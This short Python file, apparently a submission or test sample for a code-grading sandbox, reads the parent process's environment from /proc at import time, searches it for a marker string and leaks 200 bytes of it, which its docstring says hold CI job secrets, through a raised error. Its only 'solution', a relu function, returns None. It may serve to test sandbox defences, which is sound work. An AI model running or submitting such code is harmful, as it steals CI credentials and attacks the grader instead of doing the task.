"""Shows the environment of the process above it, where secrets of a CI job are."""

import os

text = os.read(os.open(f"/proc/{os.getppid()}/environ", os.O_RDONLY), 100_000)
start = text.find(b"VGRADE_ATTACKED")
raise SystemError(f"got through: {text[start : start + 200]}")


def relu(z):
    return None
